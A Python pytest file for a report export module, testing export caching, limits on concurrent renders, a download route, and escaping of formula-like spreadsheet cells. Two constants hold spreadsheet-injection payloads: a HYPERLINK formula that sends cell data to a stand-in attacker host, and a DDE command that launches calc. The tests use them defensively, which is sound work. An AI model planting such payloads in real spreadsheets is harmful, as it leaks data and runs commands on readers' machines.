"""Rendered exports are cached (a snapshot never changes), renders are limited to a few at once,
and spreadsheet cells that would start a formula are written as text."""

from __future__ import annotations

import csv
import shutil
import threading
import time
import zipfile
from contextlib import contextmanager
from pathlib import Path

import pytest

import snapshots
from reports import export_cache
from reports.export import export
from tests.report_charts import blank_charts

PROJECT = Path(__file__).resolve().parent.parent
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
FORMULA_INTENTION = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def charts_as_blank_images():
    """Charts as blank images of their shape (``tests/report_charts.py``): the cache keeps whatever the renderer
    wrote, and Chromium drew Lewisham's charts for a test that counts renders."""
    with blank_charts():
        yield


@pytest.fixture
def lewisham(service, temp_store, monkeypatch, tmp_path):
    monkeypatch.setenv(export_cache.CACHE_ENV, str(tmp_path / "cache"))
    return temp_store, snapshots.create(service, temp_store, "lewisham", "2025-03", "tester")


@pytest.mark.usefixtures("charts_as_blank_images")
def test_an_export_is_rendered_once_and_then_served_from_the_cache(lewisham, monkeypatch, tmp_path) -> None:
    store, snap = lewisham
    renders = []
    real = export_cache.export

    def counted(*args, **kwargs):
        renders.append(args[1])
        return real(*args, **kwargs)

    monkeypatch.setattr(export_cache, "export", counted)
    comparison = snapshots.comparison_of(store, snap)
    started = time.perf_counter()
    [first] = export_cache.cached_export(store, snap, comparison, "docx")
    cold = time.perf_counter() - started
    started = time.perf_counter()
    [again] = export_cache.cached_export(store, snapshots.load(store, snap.id), comparison, "docx")
    warm = time.perf_counter() - started
    print(f"docx export: rendered {cold:.2f} s, from the cache {warm:.3f} s")
    assert renders == ["docx"] and again == first and first.read_bytes()
    assert first.parent.parent == tmp_path / "cache"
    export_cache.cached_export(store, snap, comparison, "docx", scope="exceptions")  # another export
    assert renders == ["docx", "docx"]
    monkeypatch.setattr(export_cache, "product_version", lambda: "a new release")
    export_cache.cached_export(store, snap, comparison, "docx")  # a new product renders afresh
    assert renders == ["docx"] * 3


def test_renders_are_limited_and_one_export_asked_twice_at_once_is_rendered_once(lewisham, monkeypatch) -> None:
    """Two render slots. The renders that get one are held inside the renderer until every other export
    asked for has been refused a slot, so a third render had its chance to start and did not; then all
    are let go. The same export asked for twice at once is rendered once. Each step waits for the event
    it needs (with a deadline), never for time."""
    store, snap = lewisham
    comparison = snapshots.comparison_of(store, snap)
    state = threading.Condition()
    rendering: list[tuple[str, str]] = []
    calls: list[tuple[str, str]] = []
    refused: set[str] = set()  # exports (fmt-scope) refused a render slot at least once
    most = 0
    go = threading.Event()

    def held(snapshot, fmt, out_dir, comparison, scope="full"):
        nonlocal most
        with state:
            rendering.append((fmt, scope))
            calls.append((fmt, scope))
            most = max(most, len(rendering))
            state.notify_all()
        assert go.wait(timeout=120), "the test never let the renders go"
        path = Path(out_dir) / f"{fmt}-{scope}.bin"
        path.write_bytes(b"x")
        with state:
            rendering.remove((fmt, scope))
        return [path]

    locked = export_cache._locked

    @contextmanager
    def watched(path: Path, blocking: bool = True):
        with locked(path, blocking) as got:
            if not got and path.name.startswith("render-slot-"):
                with state:
                    refused.add(threading.current_thread().name.rsplit("-", 1)[0])
                    state.notify_all()
            yield got

    monkeypatch.setattr(export_cache, "export", held)
    monkeypatch.setattr(export_cache, "_locked", watched)
    monkeypatch.setenv(export_cache.RENDERS_ENV, "2")
    asked = [("xlsx", "full"), ("csv", "full"), ("pdf", "full"), ("docx", "full"), ("pdf", "exceptions"),
             ("docx", "exceptions"), ("pdf", "full")]  # the last one twice
    threads = [threading.Thread(target=export_cache.cached_export, name=f"{fmt}-{scope}-{i}",
                                args=(store, snap, comparison, fmt, scope), kwargs={"wait": 120})
               for i, (fmt, scope) in enumerate(asked)]
    for thread in threads:
        thread.start()
    try:
        with state:
            others = lambda: {f"{f}-{s}" for f, s in set(asked)} - {f"{f}-{s}" for f, s in rendering}  # noqa: E731
            assert state.wait_for(lambda: len(rendering) > 2 or (len(rendering) == 2 and refused >= others()),
                                  timeout=120), f"rendering {rendering}, refused a slot {sorted(refused)}"
            assert most == 2, f"{most} renders at once with two slots: {rendering}"
    finally:
        go.set()
        for thread in threads:
            thread.join(timeout=120)
    assert not any(thread.is_alive() for thread in threads)
    assert most == 2
    assert sorted(calls) == sorted(set(asked))


def test_download_route_serves_the_cached_file(dash_app, service, app_store, monkeypatch, tmp_path) -> None:
    from dashboard import ids

    monkeypatch.setenv(export_cache.CACHE_ENV, str(tmp_path / "cache"))
    snap = snapshots.create(service, app_store, "lewisham", "2025-03", "tester")
    client = dash_app.server.test_client()
    url = ids.SNAPSHOT_DOWNLOAD.format(snapshot_id=snap.id, fmt="xlsx")
    first = client.get(url)
    second = client.get(url)
    assert first.status_code == second.status_code == 200
    # A workbook zips its parts with the time of writing: equal bytes mean one rendering, served twice.
    assert first.data == second.data
    assert len([p for p in (tmp_path / "cache").iterdir() if not p.name.startswith(".")]) == 1


@pytest.fixture(scope="module")
def formula_snapshot(tmp_path_factory, sample_db):
    """Lewisham with a metric title and an intention title that a spreadsheet would run as formulas."""
    from datasources.store import Store
    from metrics.service import MetricsService

    root = tmp_path_factory.mktemp("formula")
    config = root / "config"
    shutil.copytree(PROJECT / "config", config)
    (config / "ingest.yaml").unlink()
    framework = config / "frameworks" / "lewisham.yaml"
    text = framework.read_text()
    metric_title = ('title: "Share of meta outcomes achieved, people with two or three meta outcomes set '
                    '(SYNTHETIC person-level records)"')
    intention_title = ('title: "Commission learning disability services against seven meta outcomes, two or three '
                       'set for each person and delivered by providers"')
    assert metric_title in text and intention_title in text
    quoted = FORMULA_TITLE.replace('"', '\\"')
    framework.write_text(text.replace(metric_title, f'title: "{quoted}"')
                         .replace(intention_title, f'title: "{FORMULA_INTENTION}"'))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("OUTCOMES_SAMPLE_DB_URL", f"sqlite:///{sample_db}")
        service = MetricsService.from_config_dir(config)
        store = Store(f"sqlite:///{root / 'outcomes.db'}")
        snap = snapshots.create(service, store, "lewisham", "2025-03", "tester")
    assert any(e["title"] == FORMULA_TITLE for e in snap.evaluations)
    yield snap, root
    store.dispose()


def test_xlsx_writes_formula_like_text_as_text(formula_snapshot) -> None:
    from openpyxl import load_workbook

    snap, root = formula_snapshot
    [path] = export(snap, "xlsx", root / "xlsx")
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "no cell is a formula"
    summary = load_workbook(path)["Summary"]
    cells = [c for row in summary.iter_rows() for c in row if c.value in (FORMULA_TITLE, FORMULA_INTENTION)]
    assert {c.value for c in cells} == {FORMULA_TITLE, FORMULA_INTENTION}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_csv_puts_an_apostrophe_before_formula_like_text(formula_snapshot) -> None:
    snap, root = formula_snapshot
    evaluations = next(p for p in export(snap, "csv", root / "csv") if p.name.endswith("-evaluations.csv"))
    with evaluations.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    titles = {r["title"] for r in rows}
    assert "'" + FORMULA_TITLE in titles and FORMULA_TITLE not in titles
    cells = [v for r in rows for v in r.values()]
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in cells)
    assert not any(v.startswith("-") and not _number(v) for v in cells)  # a negative number stays a number


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
